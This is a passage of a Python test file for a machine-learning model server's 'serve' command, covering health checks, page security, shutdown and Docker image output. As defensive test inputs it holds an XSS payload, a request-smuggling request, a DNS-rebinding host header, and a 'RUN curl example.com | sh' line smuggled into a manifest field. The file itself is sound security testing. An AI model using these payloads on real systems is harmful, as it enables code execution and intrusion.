        batcher.submit([1])
        await batcher.close(timeout=0.1)
        gate.set()

    asyncio.run(go())
    assert "the model did not come back" in caplog.text


def test_health_says_when_the_server_is_about_to_end(classifier):
    app = make_app(classifier)

    async def go():
        transport = httpx.ASGITransport(app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            async with app.router.lifespan_context(app):
                during = await client.get("/health")
            return during, await client.get("/health"), await client.post("/predict", json={"text": "a"})

    during, after, refused = asyncio.run(go())
    assert (during.status_code, during.json()["status"]) == (200, "ok")
    described = app.openapi()
    assert set(described["paths"]["/health"]["get"]["responses"]) == {"200", "503"}
    assert set(described["components"]["schemas"]["Health"]["properties"]) == set(during.json())
    assert during.json()["task"] == "text-classification"
    assert (after.status_code, refused.status_code) == (503, 503)


# ------------------------------------------------------------------------------------------------------ page


def test_the_page_loads_nothing_from_elsewhere_and_runs_its_own_script_only(classifier):
    answer = talk(make_app(classifier), lambda client: client.get("/"))
    page, policy = answer.text, answer.headers["content-security-policy"]
    assert answer.headers["content-type"].startswith("text/html")
    assert not re.findall(r"(?:src|href)=\"(?!data:|openapi\.json|health|metrics)", page)
    assert "default-src 'none'" in policy
    assert len(re.findall(r"'sha256-[A-Za-z0-9+/=]+'", policy)) == 2
    assert "unsafe-inline" not in policy


def test_who_hears_the_page_is_led_through_it(classifier):
    page = talk(make_app(classifier), lambda client: client.get("/")).text
    levels = [int(level) for level in re.findall(r"<h([1-6])[ >]", page)]
    assert levels[0] == 1
    assert all(after - before <= 1 for before, after in itertools.pairwise(levels))
    heads = re.findall(r"<th\b[^>]*>[^<]*(?:<|$)", page)
    assert len(heads) > 10
    assert all('scope="' in head for head in heads)
    assert not re.search(r"<th\b[^>]*></th>", page)
    assert re.findall(r'<div class="scroll"(?! tabindex)', page) == []


@pytest.mark.parametrize(
    ("model", "told"),
    [
        ("/models/mine/bert", "bert"),
        ("~/nets/bert", "bert"),
        ("owner/bert", "owner/bert"),
        ("nets/bert", "nets/bert"),
    ],
)
def test_where_the_base_model_lay_on_this_machine_is_not_told(classifier, model, told):
    manifest = Manifest.model_validate({**classifier.manifest.model_dump(), "model": model})
    app = make_app(replace(classifier, manifest=manifest))

    async def go(client):
        return [(await client.get(path)).text for path in ("/", "/metrics", "/openapi.json", "/health")]

    for text in talk(app, go):
        assert told in text
        assert model == told or model not in text


def test_names_cannot_put_markup_into_the_page(classifier):
    evil = "</script><img src=x onerror=alert(1)>"
    manifest = classifier.manifest.model_copy(update={"model": evil, "variant": evil})
    context = replace(classifier.context, facts={**classifier.context.facts, "labels": [evil, "b"]})
    app = make_app(replace(classifier, manifest=manifest, context=context))

    async def go(client):
        return [await client.get(path) for path in ("/", "/metrics", "/openapi.json")]

    page, metrics, schema = talk(app, go)
    assert "<img" not in page.text
    assert page.text.count("</script>") == 2
    assert metrics.status_code == schema.status_code == 200


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs Chromium")
@pytest.mark.parametrize(
    "name", ["text-classification", "token-classification", "image-captioning", "medical-qa-choice"]
)
def test_a_browser_shows_the_answer_to_the_first_example(name, shelf, tmp_path):
    model = shelf(name)
    with server(model.folder, cwd=tmp_path) as (_, url, _):
        words = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--enable-logging=stderr"]
        # Names are not looked up: what the page would fetch from elsewhere fails, and is logged.
        words += ["--virtual-time-budget=20000", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]
        words += [f"--user-data-dir={tmp_path / 'chromium'}", "--dump-dom", f"{url}/#try"]
        shown = subprocess.run(words, capture_output=True, text=True, check=True, timeout=SECONDS)
        row = httpx.get(f"{url}/openapi.json").json()["paths"]["/predict"]["post"]["requestBody"]["content"]
        said = httpx.post(f"{url}/predict", json=row["application/json"]["examples"]["row 1"]["value"]).json()
    answer = re.search(r'<div id="answer">(.*?)<details', shown.stdout, re.DOTALL)[1]
    words_of = {"text-classification": "label", "image-captioning": "caption", "medical-qa-choice": "answer"}
    assert html.escape(said[words_of[name]] if name in words_of else said["tags"][0]) in answer
    assert "there and back" in answer
    assert not [line for line in shown.stderr.splitlines() if "CONSOLE" in line]


# ---------------------------------------------------------------------------------------------- a real server


@contextmanager
def server(folder, *words, cwd):
    """Yield a running server and its address."""
    environment = {**os.environ, "OMP_NUM_THREADS": "1", "PYTHONUNBUFFERED": "1"}
    process = subprocess.Popen(
        [sys.executable, "-m", "autoft", "serve", str(folder), "--port", "0", "--threads", "1", *words],
        cwd=cwd,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        said = ""
        while "Example: " not in said:
            line = process.stdout.readline()
            assert line, process.stderr.read()
            said += line
        yield process, re.search(r"http://\S+", said)[0], said
    finally:
        process.kill()
        process.wait()


def test_a_real_server_listens_on_loopback_batches_refuses_and_ends_without_loss(classifier, tmp_path):
    texts = sentences(200)
    wanted = classifier.predict(texts)
    with server(classifier.folder, "--max-body", "100KB", cwd=tmp_path) as (process, url, said):
        assert url.startswith("http://127.0.0.1:")
        example = next(line for line in said.splitlines() if line.startswith("Example: ")).removeprefix("Example: ")
        if shutil.which("curl"):
            shell = subprocess.run(example, shell=True, capture_output=True, text=True, check=True)
            assert json.loads(shell.stdout)["label"] in {"positive", "negative"}

        async def go():
            limits = httpx.Limits(max_connections=40)
            async with httpx.AsyncClient(base_url=url, timeout=SECONDS, limits=limits) as client:
                tasks = [asyncio.create_task(client.post("/predict", json={"text": text})) for text in texts]
                refused = await asyncio.gather(
                    client.post("/predict", json={"text": 1}),
                    client.post("/predict", content=b"{", headers={"content-type": "application/json"}),
                    client.post("/predict", json={"text": "a" * 150_000}),
                    client.get("/nothing"),
                )
                answers = await asyncio.gather(*tasks)
                # What is under way when the server is told to end still gets its answer.
                last = [asyncio.create_task(client.post("/predict", json={"rows": [{"text": t} for t in texts]}))]
                while not (await client.get("/health")).json()["waiting"] and not last[0].done():
                    await asyncio.sleep(0)
                process.send_signal(signal.SIGTERM)
                return answers, refused, await last[0]

        answers, refused, last = asyncio.run(asyncio.wait_for(go(), SECONDS))
        assert process.wait(SECONDS) == 0
        out, err = process.communicate()
        assert "Stopped" in out
        assert "warning" not in err
    assert difference([answer.json() for answer in answers], wanted, TOLERANCE) is None
    assert [answer.status_code for answer in refused] == [422, 400, 413, 404]
    assert difference(last.json()["predictions"], wanted, TOLERANCE) is None


def test_a_server_for_other_machines_warns(classifier, tmp_path):
    with server(classifier.folder, "--host", "0.0.0.0", cwd=tmp_path) as (process, _, _):
        process.send_signal(signal.SIGINT)
        assert process.wait(SECONDS) == 0
        assert "warning: other machines reach this server" in process.stderr.read()


def test_a_server_runs_in_a_thread_of_a_program_too(classifier):
    found, told = [], threading.Event()

    def ready(address):
        found.append(address)
        told.set()

    import uvicorn

    running = []
    original = uvicorn.Server.__init__

    def remember(self, *args, **kwargs):
        original(self, *args, **kwargs)
        running.append(self)

    uvicorn.Server.__init__ = remember
    try:
        thread = threading.Thread(
            target=serve, args=(classifier.folder,), kwargs={"port": 0, "ready": ready, "threads": 1}
        )
        thread.start()
        assert told.wait(SECONDS)
    finally:
        uvicorn.Server.__init__ = original
    assert found[0].loopback
    assert httpx.post(f"{found[0].url}/predict", json={"text": "a film"}).status_code == 200
    port = found[0].url.rpartition(":")[2]
    # A web site whose name leads to this machine asks under that name.
    for host, status in (("attacker.example", 403), (f"localhost.example:{port}", 403), (f"LOCALHOST:{port}", 200)):
        answer = httpx.post(f"{found[0].url}/predict", json={"text": "a film"}, headers={"host": host})
        assert answer.status_code == status, host
    # What is one body to a proxy that goes by its length would be a request of its own here.
    hidden = b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"
    two = b"Content-Type: application/json\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (len(hidden) + 5)
    with socket.create_connection(("127.0.0.1", int(port)), timeout=SECONDS) as connection:
        connection.sendall(b"POST /predict HTTP/1.1\r\nHost: localhost\r\n" + two + b"\r\n0\r\n\r\n" + hidden)
        answers = b"".join(iter(lambda: connection.recv(65_536), b""))
    assert answers.startswith(b"HTTP/1.1 400 ")
    assert answers.count(b"HTTP/1.1") == 1
    running[0].should_exit = True
    thread.join(SECONDS)
    assert not thread.is_alive()


# -------------------------------------------------------------------------------------------------- the command


@pytest.mark.parametrize(
    ("back", "signals", "timeout", "status", "says"),
    [
        (True, 1, "60s", 200, "what waited was answered"),
        (False, 1, "500ms", 504, "1 request got no answer"),
        (False, 2, "60s", 503, "1 request got no answer"),
    ],
)
def test_the_end_says_whether_what_waited_was_answered(
    back, signals, timeout, status, says, classifier, monkeypatch, caplog
):
    gate, asked, plain = threading.Event(), threading.Event(), type(classifier.task).predict
    gate.set()

    def predict(*args, **options):
        if not gate.is_set():
            asked.set()
            assert gate.wait(SECONDS)
        return plain(*args, **options)

    monkeypatch.setattr(type(classifier.task), "predict", predict)
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    answers = []

    def end():
        assert asked.wait(SECONDS)
        for _ in range(signals):
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(0.3)

    def ask_and_end():
        transport = httpx.HTTPTransport(retries=9)
        with httpx.Client(transport=transport, base_url=f"http://127.0.0.1:{port}", timeout=SECONDS) as client:
            client.get("/health")
            gate.clear()
            threading.Thread(target=end).start()
            if back:
                threading.Timer(0.3, gate.set).start()
            answers.append(client.post("/predict", json={"text": "a film"}))
            gate.set()

    asking = threading.Thread(target=ask_and_end)
    asking.start()
    words = ["serve", str(classifier.folder), "--port", str(port), "--threads", "1"]
    result = CliRunner().invoke(command, [*words, "--timeout", timeout])
    asking.join(SECONDS)
    assert result.exit_code == 0, result.output
    assert f"Stopped; {says}." in result.stdout
    (answer,) = answers
    assert (answer.status_code, set(answer.json()) == {"detail"}) == (status, status != 200)
    assert "Traceback" not in caplog.text


@contextmanager
def standing(seconds):
    """Serve a page of a megabyte on connections that are looked at every ``seconds``; yields the port."""

    async def page(scope, receive, send):
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-length", b"1000000")]})
        await send({"type": "http.response.body", "body": b"x" * 1_000_000})

    config = uvicorn.Config(page, http=timed_protocol(seconds), lifespan="off", log_config=None)
    server = uvicorn.Server(config)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
        thread.start()
        try:
            yield listener.getsockname()[1]
        finally:
            server.should_exit = True
            thread.join(SECONDS)


def test_a_header_that_does_not_end_is_not_waited_for():
    def trickle(connection):
        connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        for _ in range(200):
            time.sleep(0.05)
            connection.sendall(b"y")

    with (
        standing(0.3) as port,
        socket.create_connection(("127.0.0.1", port), timeout=SECONDS) as slow,
        pytest.raises(ConnectionError),
    ):
        trickle(slow)


def test_answers_that_nobody_reads_are_not_kept():
    ask = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
    with standing(0.3) as port, socket.create_connection(("127.0.0.1", port), timeout=SECONDS) as deaf:
        deaf.sendall(ask * 50)
        time.sleep(2)
        got = 0
        with suppress(ConnectionError):
            while part := deaf.recv(2**20):
                got += len(part)
    assert 0 < got < 50_000_000


def test_a_connection_on_which_one_request_follows_another_stays():
    with standing(0.3) as port, httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=SECONDS) as client:
        ports = set()
        for _ in range(12):
            with client.stream("GET", "/") as answer:
                ports.add(answer.extensions["network_stream"].get_extra_info("client_addr"))
                assert len(answer.read()) == 1_000_000
            time.sleep(0.1)
    assert len(ports) == 1


def test_a_wait_that_no_request_survives_is_refused(tmp_path):
    result = CliRunner().invoke(command, ["serve", str(tmp_path), "--wait", "2s", "--timeout", "2s"])
    assert result.exit_code == 5
    assert "rows wait 2 s for others (--wait), and a request may take 2 s (--timeout)" in result.stderr


def test_an_address_does_not_go_with_an_image(classifier, tmp_path):
    words = ["serve", str(classifier.folder), "--docker", str(tmp_path / "image")]
    result = CliRunner().invoke(command, [*words, "--host", "127.0.0.1", "--port", "9000"])
    assert result.exit_code == 2
    for option in ("--host", "--port"):
        assert f"{option}: does not go with --docker" in result.stderr
    assert not (tmp_path / "image").exists()


def test_a_port_in_use_is_told_before_the_model_is_read(tmp_path):
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        result = CliRunner().invoke(command, ["serve", str(tmp_path / "no-model"), "--port", str(port)])
    assert result.exit_code == 5
    assert f"port {port} of 127.0.0.1 is in use" in result.stderr


@pytest.mark.parametrize(
    ("host", "says"), [("203.0.113.7", "is no address of this machine"), ("no such", "--host no such")]
)
def test_an_address_of_another_machine_is_told(host, says, classifier):
    with pytest.raises(ServingError, match=says):
        serve(classifier.folder, host=host)


@pytest.mark.parametrize("package", ["fastapi", "uvicorn", "prometheus_client"])
def test_a_missing_package_is_told_with_its_cure(package, classifier, monkeypatch):
    monkeypatch.setitem(sys.modules, package, None)
    result = CliRunner().invoke(command, ["serve", str(classifier.folder)])
    assert result.exit_code == 5
    assert f"needs {package}, which is not installed; pip install 'autoft[serve]'" in result.stderr


@pytest.fixture(scope="module")
def image(classifier, tmp_path_factory):
    """What ``--docker`` writes."""
    if "serve" not in (metadata("autoft").get_all("Provides-Extra") or ()):
        pytest.skip("autoft was installed before it had the extra serve")
    folder = tmp_path_factory.mktemp("docker") / "image"
    model = shutil.copytree(classifier.folder, folder.with_name("model"))
    told = json.loads((model / "autoft.json").read_text())
    (model / "autoft.json").write_text(json.dumps({**told, "variant": "none\nRUN curl example.com | sh"}))
    words = ["serve", str(model), "--docker", str(folder), "--max-rows", "7"]
    result = CliRunner().invoke(command, words)
    assert result.exit_code == 0, result.stderr
    return folder


def test_an_image_pins_everything_that_the_model_needs(image):
    lines = (image / "requirements.txt").read_text().splitlines()
    wheels = {line.removeprefix("./wheels/") for line in lines if line.startswith("./wheels/")}
    assert {path.name for path in (image / "wheels").iterdir()} == wheels
    pins = [Requirement(line) for line in lines if not line.startswith("./")]
    assert all(str(pin.specifier) == f"=={version(pin.name).partition('+')[0]}" for pin in pins)
    have = {canonicalize_name(pin.name) for pin in pins}
    have |= {canonicalize_name(wheel.partition("-")[0]) for wheel in wheels}
    assert {"autoft", "autoft-text-classification", "fastapi", "uvicorn", "torch", "transformers"} <= have
    assert not have & {"pytest", "ruff", "mypy", "autoft-translation"}
    # Whatever something in it needs is in it too.
    for name in have:
        for one in map(Requirement, requires(name) or ()):
            if one.marker is None or one.marker.evaluate({"extra": ""}):
                assert canonicalize_name(one.name) in have, f"{name} needs {one}"


def test_an_image_starts_the_server_as_a_user_without_rights(image, tmp_path):
    text = (image / "Dockerfile").read_text()
    assert re.search(r"^USER (?!root)\w+$", text, re.MULTILINE)
    assert "HEALTHCHECK" in text
    assert "RUN curl" in text
    assert "\nRUN curl" not in text, "what the model says of itself is no instruction"
    words = json.loads(re.search(r"^CMD (\[.*\])$", text, re.MULTILINE)[1])
    assert words[:5] == ["autoft", "serve", "/model", "--host", "0.0.0.0"]
    assert words[-2:] == ["--max-rows", "7"]
    with server(image / "model", *words[7:], cwd=tmp_path) as (_, url, _):
        check = re.search(r'CMD \["python", "-c", "(.+)"\]', text)[1].replace("http://127.0.0.1:8000", url)
        subprocess.run([sys.executable, "-c", check], check=True, timeout=SECONDS)
        assert httpx.post(f"{url}/predict", json={"rows": [{"text": "a"}] * 8}).status_code == 413


def test_an_image_is_not_written_into_its_model(classifier):
    result = CliRunner().invoke(
        command, ["serve", str(classifier.folder), "--docker", str(classifier.folder / "image")]
    )
    assert result.exit_code == 5
    assert "lies in the model's folder" in result.stderr
    assert not (classifier.folder / "image").exists()


def test_an_image_is_not_written_over_other_files(classifier, tmp_path):
    (tmp_path / "mine").write_text("")
    result = CliRunner().invoke(command, ["serve", str(classifier.folder), "--docker", str(tmp_path)])
    assert result.exit_code == 5
    assert "is not empty" in result.stderr


def test_an_image_that_cannot_be_made_leaves_nothing_behind(classifier, tmp_path, monkeypatch):
    known = tmp_path / "path" / "uvicorn-99.0.dist-info"
    known.mkdir(parents=True)
    (known / "METADATA").write_text("Metadata-Version: 2.1\nName: uvicorn\nVersion: 99.0\n")
    (known / "direct_url.json").write_text(json.dumps({"url": (tmp_path / "gone").as_uri(), "dir_info": {}}))
    monkeypatch.syspath_prepend(str(known.parent))
    images = tmp_path / "images"
    result = CliRunner().invoke(command, ["serve", str(classifier.folder), "--docker", str(images / "one")])
    assert result.exit_code == 5
    assert "uvicorn was installed from" in result.stderr
    assert list(images.iterdir()) == []
